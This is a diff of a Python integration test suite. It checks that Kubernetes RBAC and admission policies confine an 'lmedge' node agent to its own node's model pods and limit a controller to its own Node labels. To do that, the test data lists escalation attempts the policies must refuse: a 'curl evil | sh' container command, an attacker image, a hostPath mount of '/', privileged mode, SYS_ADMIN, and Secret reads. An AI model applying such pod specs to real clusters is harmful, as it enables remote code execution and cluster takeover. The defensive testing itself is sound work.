@@ -1,17 +1,26 @@
-"""RBAC and the node-agent admission policy of `deploy/rbac/`, as shipped, on a
-real API server.
+"""RBAC and the admission policies of `deploy/rbac/` (the chart's, rendered), on
+a real API server.
 
 The node agent authenticates the way it does in a cluster: with a service
 account token bound (TokenRequest API) to its own Pod, here a KWOK pod on
 worker-2, so the API server puts `authentication.kubernetes.io/node-name:
-worker-2` into the request's user info and the ValidatingAdmissionPolicy can
-compare it with each pod's `spec.nodeName`.
+worker-2` into the request's user info. The controller authenticates with
+its own account's token.
+
+What is checked: the agent can create and delete exactly the model pods the
+node agent builds (`pods.model_pod`) on its own node, and every way a pod
+could lift it above that — another namespace, node, account, image or owner,
+host namespaces, ports or paths, privilege, root, a command of its own,
+Secrets — is refused with the policy's message; the controller can set its
+Node labels and nothing else on a Node.
 """
 
 from __future__ import annotations
 
+import copy
+import re
 import uuid
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from typing import Any
 
 import pytest
@@ -19,18 +28,27 @@ import yaml
 from kubernetes import client, dynamic
 from kubernetes.client.rest import ApiException
 
-from lmedge.api import Decision, LMPlacement, NodeObservation, Placement
+from lmedge.api import Decision, LMPlacement, NodeObservation, Placement, ServiceInfo
+from lmedge.api.manifests import load_resources
 from lmedge.backends.kubernetes.backend import KubernetesBackend, KubernetesSettings
 from lmedge.backends.kubernetes.client import ClusterRefused, KubeClient
+from lmedge.backends.kubernetes.pods import model_pod
 from lmedge.nodeagent.agent import NodeAgent
+from lmedge.operator.logic import model_images
 from tests.fixtures.cluster import REPO, KubeCluster, wait_until
 
 SYSTEM = "lmedge-system"
+#: The workload namespace deploy/rbac/ is rendered for.
+WORKLOADS = "lm-serving"
 AGENT_SA = "lmedge-node-agent"
+CONTROLLER_SA = "lmedge-controller"
+MODEL_SA = "lmedge-model"
+#: An account in the workload namespace with a cluster-admin binding.
+POWERFUL_SA = "powerful"
+IMAGES = "lmedge-model-images"
 AGENT_NODE = "worker-2"
-POLICY_MESSAGE = (
-    f"lmedge node agent on {AGENT_NODE} may create and delete pods only on its own node"
-)
+OWN_NODE = f"lmedge node agent on {AGENT_NODE} may create and delete pods only on its own node"
+SERVICES = REPO / "examples/testbed/services.yaml"
 
 
 def apply_file(api: Any, path: str) -> None:
@@ -53,23 +71,68 @@ def pod(name: str, node: str | None) -> dict[str, Any]:
     return {"metadata": {"name": name}, "spec": spec}
 
 
-@pytest.fixture(scope="module")
-def installed(lmedge_cluster: KubeCluster) -> Iterator[KubeCluster]:
-    """deploy/rbac/*.yaml applied, as a Helm install would."""
-    with lmedge_cluster.api_client() as api:
+def bound_token(admin: KubeClient, account: str, pod_name: str, uid: str) -> str:
+    """A token of `account` bound to the pod (as the kubelet projects it)."""
+    return str(
+        admin.core.create_namespaced_service_account_token(
+            account,
+            SYSTEM,
+            {
+                "spec": {
+                    "boundObjectRef": {
+                        "apiVersion": "v1", "kind": "Pod", "name": pod_name, "uid": uid,
+                    },
+                    "expirationSeconds": 3600,
+                }
+            },
+        ).status.token
+    )  # fmt: skip
+
+
+def install_rbac(cluster: KubeCluster) -> None:
+    """deploy/rbac/*.yaml applied in order, as a Helm install would (idempotent)."""
+    for ns in (SYSTEM, WORKLOADS):
         try:
-            lmedge_cluster.create_namespace(SYSTEM)
+            cluster.create_namespace(ns)
         except ApiException as exc:
             if exc.status != 409:
                 raise
+    with cluster.api_client() as api:
         for name in sorted((REPO / "deploy/rbac").glob("*.yaml")):
             apply_file(api, str(name.relative_to(REPO)))
-    yield lmedge_cluster
 
 
 @pytest.fixture(scope="module")
-def namespace(installed: KubeCluster) -> str:
-    return installed.create_namespace(f"adm-{uuid.uuid4().hex[:6]}")
+def installed(lmedge_cluster: KubeCluster) -> Iterator[KubeCluster]:
+    """deploy/rbac/ applied, and the testbed's LMServices in the workload namespace."""
+    install_rbac(lmedge_cluster)
+    with lmedge_cluster.api_client() as api:
+        core = client.CoreV1Api(api)
+        try:
+            core.create_namespaced_service_account(WORKLOADS, {"metadata": {"name": POWERFUL_SA}})
+            client.RbacAuthorizationV1Api(api).create_cluster_role_binding(
+                {
+                    "metadata": {"name": f"{WORKLOADS}-{POWERFUL_SA}"},
+                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
+                                "name": "cluster-admin"},
+                    "subjects": [{"kind": "ServiceAccount", "name": POWERFUL_SA,
+                                  "namespace": WORKLOADS}],
+                }
+            )  # fmt: skip
+        except ApiException as exc:
+            if exc.status != 409:
+                raise
+        custom = client.CustomObjectsApi(api)
+        for doc in yaml.safe_load_all(SERVICES.read_text()):
+            if doc:
+                try:
+                    custom.create_namespaced_custom_object(
+                        "lmedge.io", "v1alpha1", WORKLOADS, "lmservices", doc
+                    )
+                except ApiException as exc:
+                    if exc.status != 409:
+                        raise
+    yield lmedge_cluster
 
 
 @pytest.fixture(scope="module")
@@ -80,39 +143,65 @@ def admin(installed: KubeCluster) -> Iterator[KubeClient]:
 
 
 @pytest.fixture(scope="module")
-def agent(admin: KubeClient, namespace: str) -> Iterator[KubeClient]:
+def images(admin: KubeClient) -> dict[str, str]:
+    """The model-images ConfigMap as the operator writes it (`logic.model_images`)."""
+    data = model_images(admin.list_lmservices(WORKLOADS))
+    admin.core.patch_namespaced_config_map(IMAGES, WORKLOADS, {"data": data})
+    return data
+
+
+@pytest.fixture(scope="module")
+def services() -> dict[str, ServiceInfo]:
+    _, found = load_resources(SERVICES)
+    return {s.name: s for s in found}
+
+
+@pytest.fixture(scope="module")
+def agent(admin: KubeClient, images: dict[str, str], valid: dict[str, Any]) -> Iterator[KubeClient]:
     """The node agent's client: a token bound to its pod on worker-2."""
     name = f"agent-{uuid.uuid4().hex[:6]}"
     body = pod(name, AGENT_NODE)
     body["spec"]["serviceAccountName"] = AGENT_SA
     made = admin.core.create_namespaced_pod(SYSTEM, body)
-    token = admin.core.create_namespaced_service_account_token(
-        AGENT_SA,
-        SYSTEM,
-        {
-            "spec": {
-                "boundObjectRef": {
-                    "apiVersion": "v1", "kind": "Pod", "name": name, "uid": made.metadata.uid,
-                },
-                "expirationSeconds": 3600,
-            }
-        },
-    ).status.token  # fmt: skip
-    k = admin.with_token(token)
+    k = admin.with_token(bound_token(admin, AGENT_SA, name, made.metadata.uid))
 
-    # A policy takes effect once the API server has compiled it: wait for the
-    # first refusal of a dry-run create on another node.
+    # A policy takes effect once the API server has compiled it (and, for the
+    # image policy, seen its parameter): wait for both to refuse a dry run.
     def enforced() -> bool:
-        try:
-            k.core.create_namespaced_pod(namespace, pod("probe", "worker-3"), dry_run="All")
-        except ApiException as exc:
-            return exc.status == 403 and POLICY_MESSAGE in (exc.body or "")
-        return False
+        refused = []
+        other_image = copy.deepcopy(valid)
+        other_image["spec"]["containers"][0]["image"] = "probe.example/x:1"
+        for probe in (pod("probe", "worker-3"), other_image):
+            try:
+                k.core.create_namespaced_pod(WORKLOADS, probe, dry_run="All")
+            except ApiException as exc:
+                refused.append(
+                    exc.status == 403 and "ValidatingAdmissionPolicy" in (exc.body or "")
+                )
+            else:
+                refused.append(False)
+        return all(refused)
 
-    wait_until(enforced, 30, "the admission policy to be enforced")
+    wait_until(enforced, 60, "the admission policies to be enforced")
     yield k
     k.close()
     admin.core.delete_namespaced_pod(name, SYSTEM)
+
+
+@pytest.fixture(scope="module")
+def valid(admin: KubeClient, services: dict[str, ServiceInfo]) -> dict[str, Any]:
+    """The pod the node agent builds for lm2 on its node, owned by the live LMService."""
+    uid = admin.custom.get_namespaced_custom_object(
+        "lmedge.io", "v1alpha1", WORKLOADS, "lmservices", "lm2"
+    )["metadata"]["uid"]
+    return model_pod(
+        services["lm2"],
+        LMPlacement(lm="lm2", mode="gpu", cpu_cores=2, vgpus=1),
+        AGENT_NODE,
+        WORKLOADS,
+        owner_uid=uid,
+        service_account=MODEL_SA,
+    )
 
 
 def test_agent_token_carries_its_node(agent: KubeClient) -> None:
@@ -124,77 +213,223 @@ def test_agent_token_carries_its_node(agent: KubeClient) -> None:
     assert info.extra["authentication.kubernetes.io/node-name"] == [AGENT_NODE]
 
 
-def test_agent_creates_and_deletes_pods_on_its_own_node(agent: KubeClient, namespace: str) -> None:
-    assert agent.create_pod(
-        {**pod("mine", AGENT_NODE), "metadata": {"name": "mine", "namespace": namespace}}
-    )
-    assert agent.delete_pod(namespace, "mine")
+def test_agent_creates_and_deletes_its_model_pod(agent: KubeClient, valid: dict[str, Any]) -> None:
+    assert agent.create_pod(valid)
+    assert agent.delete_pod(WORKLOADS, valid["metadata"]["name"])
 
 
-@pytest.mark.parametrize("node", ["worker-3", None], ids=["other-node", "unbound"])
-def test_agent_may_not_create_a_pod_elsewhere(
-    agent: KubeClient, namespace: str, node: str | None
+# -- every way a pod could lift the agent above its node's model pods ----------
+
+
+def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
+    """Set (or with `_DELETE` remove) the field at a dotted path; `\\.` is a literal dot."""
+    keys = [k.replace("\\.", ".") for k in re.split(r"(?<!\\)\.", path)]
+
+    def change(pod: dict[str, Any]) -> None:
+        *parents, last = keys
+        node = pod
+        for key in parents:
+            node = node[int(key)] if key.isdigit() else node.setdefault(key, {})
+        if value is _DELETE:
+            del node[last]
+        else:
+            node[last] = value
+
+    return change
+
+
+_DELETE = object()
+_C = "spec.containers.0"
+
+
+def _add_volume(volume: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
+    def change(pod: dict[str, Any]) -> None:
+        pod["spec"]["volumes"].append(volume)
+        pod["spec"]["containers"][0]["volumeMounts"].append(
+            {"name": volume["name"], "mountPath": "/mnt/x"}
+        )
+
+    return change
+
+
+def _owner(**fields: Any) -> Callable[[dict[str, Any]], None]:
+    def change(pod: dict[str, Any]) -> None:
+        pod["metadata"]["ownerReferences"][0].update(fields)
+
+    return change
+
+
+def _sidecar(pod: dict[str, Any]) -> None:
+    # As well-behaved as the model server, only another image.
+    side = copy.deepcopy(pod["spec"]["containers"][0])
+    side.update(name="side", image="busybox:1.36", ports=[])
+    pod["spec"]["containers"].append(side)
+
+
+FORBIDDEN: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
+    ("other-node", _set("spec.nodeName", "worker-3"), f"{OWN_NODE}, not on worker-3"),
+    ("unbound", _set("spec.nodeName", _DELETE), f"{OWN_NODE}, not an unbound pod"),
+    ("not-a-model-pod", _set("metadata.labels.app\\.kubernetes\\.io/managed-by", "me"),
+     "may create and delete only lmedge model pods"),
+    ("node-label-of-another", _set("metadata.labels.lmedge\\.io/node", "worker-3"),
+     "may create and delete only lmedge model pods"),
+    ("no-owner", _set("metadata.ownerReferences", _DELETE),
+     "a model pod must have one owner, its LMService lm2"),
+    ("owner-of-another-kind", _owner(kind="Deployment", apiVersion="apps/v1"),
+     "a model pod must have one owner, its LMService lm2"),
+    ("owner-of-another-uid", _owner(uid="00000000-0000-0000-0000-000000000000"),
+     "a model pod must be owned by LMService lm2 (uid "),
+    ("another-image", _set(f"{_C}.image", "evil.example/shell:1"),
+     "may run only the image of LMService lm2 (ghcr.io/lmedge/model-server-gpt2-large:0.1.0), "
+     "not evil.example/shell:1"),
+    ("sidecar-of-another-image", _sidecar, "not busybox:1.36"),
+    ("unlisted-lm", lambda p: (p["metadata"]["labels"].update({"lmedge.io/lm": "lm9"}),
+                               _owner(name="lm9")(p)),
+     "no LMService lm9 in lm-serving"),
+    ("another-account", _set("spec.serviceAccountName", POWERFUL_SA),
+     f"a model pod must run as service account {MODEL_SA}"),
+    ("default-account", _set("spec.serviceAccountName", _DELETE),
+     f"a model pod must run as service account {MODEL_SA}"),
+    ("token-mounted", _set("spec.automountServiceAccountToken", True),
+     "automountServiceAccountToken: false"),
+    ("host-network", _set("spec.hostNetwork", True), "may not use the host's network"),
+    ("host-pid", _set("spec.hostPID", True), "may not use the host's network, PID"),
+    ("host-ipc", _set("spec.hostIPC", True), "may not use the host's network, PID, IPC"),
+    # (The API server refuses privileged without escalation as invalid.)
+    ("privileged", lambda p: p["spec"]["containers"][0]["securityContext"].update(
+        privileged=True, allowPrivilegeEscalation=True), "may not be privileged"),
+    ("escalation", _set(f"{_C}.securityContext.allowPrivilegeEscalation", True),
+     "allowPrivilegeEscalation: false"),
+    ("capability", _set(f"{_C}.securityContext.capabilities.add", ["SYS_ADMIN"]),
+     "may not add capabilities"),
+    ("root-pod", _set("spec.securityContext.runAsUser", 0), "must run as non-root"),
+    ("root-container", _set(f"{_C}.securityContext.runAsUser", 0), "must run as non-root"),
+    ("root-allowed", _set(f"{_C}.securityContext.runAsNonRoot", False), "must run as non-root"),
+    ("no-run-as-non-root", _set("spec.securityContext.runAsNonRoot", _DELETE),
+     "must run as non-root"),
+    ("host-root", _add_volume({"name": "root", "hostPath": {"path": "/"}}),
+     "may mount only its progress directory /var/lib/lmedge/progress/lm2 from the host"),
+    ("another-lms-progress", _set("spec.volumes.0.hostPath.path", "/var/lib/lmedge/progress/lm1"),
+     "may mount only its progress directory /var/lib/lmedge/progress/lm2"),
+    ("secret-volume", _add_volume({"name": "s", "secret": {"secretName": "lmedge-store"}}),
+     "may mount only its progress directory"),
+    ("token-volume", _add_volume({"name": "t", "projected": {"sources": [
+        {"serviceAccountToken": {"path": "token"}}]}}), "may mount only its progress directory"),
+    ("own-command", _set(f"{_C}.command", ["sh", "-c", "curl evil | sh"]),
+     "runs its image's own entrypoint (args only, no command)"),
+    ("init-container", _set("spec.initContainers", [
+        {"name": "i", "image": "ghcr.io/lmedge/model-server-gpt2-large:0.1.0"}]),
+     "no init or ephemeral containers"),
+    ("host-port", _set(f"{_C}.ports.0.hostPort", 8000), "may not use host ports"),
+    ("secret-env", _set(f"{_C}.env", [{"name": "X", "valueFrom": {
+        "secretKeyRef": {"name": "lmedge-store", "key": "uri"}}}]),
+     "may not read Secrets or ConfigMaps into its environment"),
+    ("env-from", _set(f"{_C}.envFrom", [{"secretRef": {"name": "lmedge-store"}}]),
+     "may not read Secrets or ConfigMaps into its environment"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("change", "message"), [(c, m) for _, c, m in FORBIDDEN],
+                         ids=[i for i, _, _ in FORBIDDEN])  # fmt: skip
+def test_agent_may_not_create(
+    agent: KubeClient,
+    valid: dict[str, Any],
+    change: Callable[[dict[str, Any]], None],
+    message: str,
 ) -> None:
-    manifest = {**pod("theirs", node), "metadata": {"name": "theirs", "namespace": namespace}}
+    manifest = copy.deepcopy(valid)
+    change(manifest)
 
     with pytest.raises(ClusterRefused) as refused:
-        agent.create_pod(manifest)
+        agent.call("create pod", agent.core.create_namespaced_pod, WORKLOADS, manifest,
+                   dry_run="All")  # fmt: skip
 
     assert refused.value.status == 403
-    assert POLICY_MESSAGE in refused.value.message
-    assert ("on worker-3" if node else "an unbound pod") in refused.value.message
+    assert "ValidatingAdmissionPolicy" in refused.value.message
+    assert message in refused.value.message, refused.value.message
 
 
-def test_agent_may_not_delete_a_pod_on_another_node(
-    agent: KubeClient, admin: KubeClient, namespace: str
+def test_agent_may_not_create_pods_in_another_namespace(
+    agent: KubeClient, valid: dict[str, Any]
 ) -> None:
-    admin.core.create_namespaced_pod(namespace, pod("other", "worker-4"))
-
-    with pytest.raises(ClusterRefused) as refused:
-        agent.delete_pod(namespace, "other")
-
-    assert refused.value.status == 403
-    assert f"{POLICY_MESSAGE}, not on worker-4" in refused.value.message
-    assert admin.core.read_namespaced_pod("other", namespace).metadata.deletion_timestamp is None
-
-
-def test_the_policy_does_not_bind_other_users(admin: KubeClient, namespace: str) -> None:
-    assert admin.create_pod(
-        {**pod("admin", "worker-5"), "metadata": {"name": "admin", "namespace": namespace}}
-    )
+    # RBAC refuses first (the agent's Role is in the workload namespace only).
+    for ns in (SYSTEM, "default", "kube-system"):
+        manifest = {**valid, "metadata": {**valid["metadata"], "namespace": ns}}
+        with pytest.raises(ClusterRefused) as refused:
+            agent.create_pod(manifest)
+        assert refused.value.status == 403
+        assert f'cannot create resource "pods" in API group "" in the namespace "{ns}"' in (
+            refused.value.message
+        )
 
 
-def test_an_unbound_agent_token_is_refused(admin: KubeClient, namespace: str) -> None:
+def test_agent_may_delete_only_its_nodes_model_pods(
+    agent: KubeClient, admin: KubeClient, valid: dict[str, Any]
+) -> None:
+    other_node = copy.deepcopy(valid)
+    other_node["metadata"]["name"] = "lm2-on-3"
+    other_node["metadata"]["labels"]["lmedge.io/node"] = "worker-3"
+    other_node["spec"]["nodeName"] = "worker-3"
+    plain = {**pod("app", AGENT_NODE), "metadata": {"name": "app", "namespace": WORKLOADS}}
+    for body in (other_node, plain):
+        admin.core.create_namespaced_pod(WORKLOADS, body)
+    try:
+        with pytest.raises(ClusterRefused, match=f"{OWN_NODE}, not on worker-3"):
+            agent.delete_pod(WORKLOADS, "lm2-on-3")
+        with pytest.raises(ClusterRefused, match="may create and delete only lmedge model pods"):
+            agent.delete_pod(WORKLOADS, "app")
+        for name in ("lm2-on-3", "app"):
+            live = admin.core.read_namespaced_pod(name, WORKLOADS)
+            assert live.metadata.deletion_timestamp is None
+    finally:
+        for name in ("lm2-on-3", "app"):
+            admin.core.delete_namespaced_pod(name, WORKLOADS, grace_period_seconds=0)
+
+
+def test_the_policies_do_not_bind_other_users(admin: KubeClient) -> None:
+    body = {**pod("admin", "worker-5"), "metadata": {"name": "admin", "namespace": WORKLOADS}}
+    assert admin.create_pod(body)
+    assert admin.delete_pod(WORKLOADS, "admin")
+
+
+def test_an_unbound_agent_token_is_refused(admin: KubeClient, valid: dict[str, Any]) -> None:
     token = admin.core.create_namespaced_service_account_token(
         AGENT_SA, SYSTEM, {"spec": {"expirationSeconds": 600}}
     ).status.token
     unbound = admin.with_token(token)
 
     with pytest.raises(ClusterRefused, match="carries no node identity"):
-        unbound.create_pod(
-            {**pod("nobody", AGENT_NODE), "metadata": {"name": "nobody", "namespace": namespace}}
-        )
+        unbound.create_pod(valid)
 
 
 @pytest.mark.parametrize(
-    ("resource", "verb", "group", "allowed"),
+    ("resource", "verb", "group", "namespace", "allowed"),
     [
-        ("pods", "create", "", True),
-        ("pods", "delete", "", True),
-        ("pods", "list", "", True),
-        ("pods", "patch", "", False),
-        ("pods", "deletecollection", "", False),
-        ("pods/eviction", "create", "", False),
-        ("edgenodes", "list", "lmedge.io", True),
-        ("edgenodes", "patch", "lmedge.io", False),
-        ("lmservices", "delete", "lmedge.io", False),
-        ("configmaps", "create", "", False),
-        ("nodes", "patch", "", False),
-        ("secrets", "get", "", False),
+        ("pods", "create", "", WORKLOADS, True),
+        ("pods", "delete", "", WORKLOADS, True),
+        ("pods", "list", "", WORKLOADS, True),
+        ("pods", "list", "", "", False),  # not cluster-wide
+        ("pods", "list", "", "kube-system", False),
+        ("pods", "create", "", SYSTEM, False),
+        ("pods", "patch", "", WORKLOADS, False),
+        ("pods", "deletecollection", "", WORKLOADS, False),
+        ("pods/eviction", "create", "", WORKLOADS, False),
+        ("pods/ephemeralcontainers", "patch", "", WORKLOADS, False),
+        ("edgenodes", "list", "lmedge.io", "", True),
+        ("edgenodes", "patch", "lmedge.io", "", False),
+        ("lmservices", "list", "lmedge.io", WORKLOADS, True),
+        ("lmservices", "list", "lmedge.io", "", False),
+        ("lmservices", "delete", "lmedge.io", WORKLOADS, False),
+        ("tokenreviews", "create", "authentication.k8s.io", "", True),
+        ("configmaps", "create", "", WORKLOADS, False),
+        ("configmaps", "patch", "", WORKLOADS, False),
+        ("nodes", "patch", "", "", False),
+        ("secrets", "get", "", WORKLOADS, False),
+        ("serviceaccounts/token", "create", "", WORKLOADS, False),
     ],
 )
 def test_agent_rbac_is_least_privilege(
-    agent: KubeClient, namespace: str, resource: str, verb: str, group: str, allowed: bool
+    agent: KubeClient, resource: str, verb: str, group: str, namespace: str, allowed: bool
 ) -> None:
     main, _, sub = resource.partition("/")
     review = client.AuthorizationV1Api(agent.api).create_self_subject_access_review(
@@ -213,33 +448,96 @@ def test_agent_rbac_is_least_privilege(
 
 
 def test_node_agent_actuates_on_its_node_and_is_refused_elsewhere(
-    agent: KubeClient, admin: KubeClient, namespace: str
+    agent: KubeClient, admin: KubeClient
 ) -> None:
-    custom = client.CustomObjectsApi(admin.api)
-    for doc in yaml.safe_load_all((REPO / "examples/testbed/services.yaml").read_text()):
-        if doc:
-            custom.create_namespaced_custom_object(
-                "lmedge.io", "v1alpha1", namespace, "lmservices", doc
-            )
-    settings = KubernetesSettings(namespace=namespace)
-    lm2 = [LMPlacement(lm="lm2", mode="gpu", cpu_cores=2, vgpus=1)]
+    settings = KubernetesSettings(namespace=WORKLOADS, model_service_account=MODEL_SA)
+    lm1 = [LMPlacement(lm="lm1", mode="gpu", cpu_cores=2, vgpus=1)]
 
     mine = NodeAgent(
-        AGENT_NODE, KubernetesBackend(agent, settings), Fixed(Placement(node=AGENT_NODE, lms=lm2))
+        AGENT_NODE, KubernetesBackend(agent, settings), Fixed(Placement(node=AGENT_NODE, lms=lm1))
     )
     ok = mine.step(0)
     # An agent misconfigured for another node cannot touch it.
     wrong = NodeAgent(
-        "worker-3", KubernetesBackend(agent, settings), Fixed(Placement(node="worker-3", lms=lm2))
+        "worker-3", KubernetesBackend(agent, settings), Fixed(Placement(node="worker-3", lms=lm1))
     )
     refused = wrong.step(0)
+    try:
+        assert (ok.actuation.started, ok.actuation.errors) == (["lm1"], [])
+        assert refused.actuation.started == []
+        assert len(refused.actuation.errors) == 1
+        assert f"{OWN_NODE}, not on worker-3" in refused.actuation.errors[0]
+        assert admin.list_model_pods(WORKLOADS, node="worker-3") == []
+    finally:
+        for p in admin.list_model_pods(WORKLOADS, node=AGENT_NODE):
+            admin.delete_pod(WORKLOADS, p.name)
 
-    assert (ok.actuation.started, ok.actuation.errors) == (["lm2"], [])
-    assert refused.actuation.started == []
-    assert len(refused.actuation.errors) == 1
-    assert f"{POLICY_MESSAGE}, not on worker-3" in refused.actuation.errors[0]
-    on_3 = admin.list_model_pods(namespace, node="worker-3")
-    assert on_3 == []
+
+# -- the controller and Nodes ----------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def controller(admin: KubeClient) -> Iterator[KubeClient]:
+    token = admin.core.create_namespaced_service_account_token(
+        CONTROLLER_SA, SYSTEM, {"spec": {"expirationSeconds": 3600}}
+    ).status.token
+    k = admin.with_token(token)
+
+    def enforced() -> bool:
+        try:
+            k.core.patch_node("worker-4", {"spec": {"unschedulable": True}}, dry_run="All")
+        except ApiException as exc:
+            return exc.status == 403 and "ValidatingAdmissionPolicy" in (exc.body or "")
+        return False
+
+    wait_until(enforced, 60, "the controller's Node policy to be enforced")
+    yield k
+    k.close()
+
+
+NODE_ONLY = "the lmedge controller may change only lmedge.io/* and nvidia.com/device-plugin.config"
+
+
+@pytest.mark.parametrize(
+    ("patch", "message"),
+    [
+        ({"spec": {"unschedulable": True}}, "not its spec"),
+        ({"spec": {"taints": [{"key": "x", "value": "y", "effect": "NoExecute"}]}},
+         "not its spec"),
+        ({"spec": {"providerID": "kwok://elsewhere"}}, "not its spec"),
+        ({"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}},
+         "labels on a Node, not node-role.kubernetes.io/control-plane"),
+        ({"metadata": {"labels": {"kubernetes.io/hostname": None}}},
+         "labels on a Node, not kubernetes.io/hostname"),
+        ({"metadata": {"labels": {"nvidia.com/gpu.present": "false"}}},
+         "labels on a Node, not nvidia.com/gpu.present"),
+        ({"metadata": {"annotations": {"kwok.x-k8s.io/node": "other"}}},
+         "not its annotations, owners or finalizers"),
+    ],
+    ids=["cordon", "taint", "provider", "other-label", "remove-label", "gpu-label", "annotation"],
+)  # fmt: skip
+def test_controller_may_not_change_nodes_beyond_its_labels(
+    controller: KubeClient, patch: dict[str, Any], message: str
+) -> None:
+    with pytest.raises(ApiException) as refused:
+        controller.core.patch_node("worker-4", patch, dry_run="All")
+
+    assert refused.value.status == 403
+    assert NODE_ONLY in (refused.value.body or "")
+    assert message in (refused.value.body or ""), refused.value.body
+
+
+def test_controller_sets_its_own_node_labels(controller: KubeClient, admin: KubeClient) -> None:
+    labels = {"lmedge.io/role": "worker", "lmedge.io/test-label": "1",
+              "nvidia.com/device-plugin.config": "lmedge-replicas-2"}  # fmt: skip
+    controller.core.patch_node("worker-4", {"metadata": {"labels": labels}})
+    try:
+        live = admin.core.read_node("worker-4").metadata.labels
+        assert {k: live[k] for k in labels} == labels
+    finally:
+        controller.core.patch_node("worker-4", {"metadata": {"labels": {
+            "lmedge.io/test-label": None}}})  # fmt: skip
+    assert "lmedge.io/test-label" not in admin.core.read_node("worker-4").metadata.labels
 
 
 class Fixed:
